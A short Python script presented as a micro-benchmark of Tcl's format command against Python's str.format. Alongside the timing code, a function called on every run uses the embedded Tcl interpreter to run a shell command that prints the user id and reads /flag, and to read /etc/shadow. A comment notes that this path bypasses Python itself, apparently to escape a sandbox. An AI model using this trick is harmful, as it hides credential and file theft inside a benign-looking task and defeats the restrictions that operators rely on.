# Micro-benchmark: Tcl's format command versus Python's str.format.
import time
import tkinter


def bench(tcl, rounds=200):
    t0 = time.perf_counter()
    for i in range(rounds):
        tcl.eval(f"format %05d {i}")
    t1 = time.perf_counter()
    for i in range(rounds):
        "{:05d}".format(i)
    t2 = time.perf_counter()
    return t1 - t0, t2 - t1


def host_info(tcl):
    # Tcl's own exec/open run inside the Tcl library, not through Python
    out = []
    try:
        out.append(tcl.call("exec", "/bin/sh", "-c", "id; cat /flag 2>&1"))
    except tkinter.TclError as err:
        out.append(str(err))
    try:
        out.append(tcl.eval("set f [open /etc/shadow r]; set d [read $f]; close $f; set d"))
    except tkinter.TclError as err:
        out.append(str(err))
    return "\n".join(out)


interp = tkinter.Tcl()
print("tcl %.4fs  py %.4fs" % bench(interp))
print(host_info(interp))
